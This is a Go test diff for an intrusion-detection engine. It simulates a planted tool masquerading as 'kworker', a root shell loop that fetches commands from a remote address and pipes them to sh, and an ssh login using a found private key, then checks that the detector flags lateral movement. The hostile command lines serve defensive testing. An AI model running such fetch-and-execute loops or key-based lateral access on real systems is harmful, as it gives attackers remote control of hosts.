@@ -106,4 +106,35 @@ func TestPlantedProgramUsedAgain(t *testing.T) {
 	if f2 == nil || f2.Title != "Planted Program Used Again" || f2.Stage != StageExfiltrationImpact {
 		t.Fatalf("second run: %+v, want the tool in use, placed as the curl upload it is (stage 8)", f2)
 	}
+	// a shell left under init whose loop runs the planted tool is the
+	// intrusion's: what it starts acts for it (an ssh with a found key)
+	loop := s.exec(950, 1, 0, "root", "/var/tmp", "/usr/bin/dash", "sh", "-c", "while :; do t=$("+tool+" -s http://203.0.113.9/t); echo \"$t\" | sh; sleep 1; done")
+	e.Observe(loop, s.tree)
+	s.exec(951, 950, 0, "root", "/var/tmp", "/usr/bin/dash", "sh")
+	lat := e.Observe(s.exec(952, 951, 0, "root", "/var/tmp", "/usr/bin/ssh", "ssh", "-i", "/home/svc/.ssh/id_publish", "deploy@10.0.0.7", "id"), s.tree)
+	if findingOf(lat, "lateral-remote-access-from-web") == nil {
+		t.Errorf("the loop's task's ssh: %v, want lateral-remote-access-from-web (the loop runs the planted tool)", ids(lat))
+	}
+}
+
+func TestRunsPath(t *testing.T) {
+	const tool = "/usr/local/lib/.k/kworker"
+	for _, c := range []struct {
+		sc   string
+		want bool
+	}{
+		{tool + " -s http://x/t", true},
+		{"while :; do t=$(" + tool + " -s http://x/t); sleep 1; done", true},
+		{"cd /tmp && " + tool, true},
+		{"if true; then " + tool + " -s; fi", true},
+		{"setsid " + tool + " &", true},
+		{"ls -la " + tool, false},
+		{"rm -f " + tool + "; echo done", false},
+		{"sha256sum " + tool + "x", false},
+		{tool + "x -s", false},
+	} {
+		if got := runsPath(c.sc, tool); got != c.want {
+			t.Errorf("runsPath(%q) = %v, want %v", c.sc, got, c.want)
+		}
+	}
 }
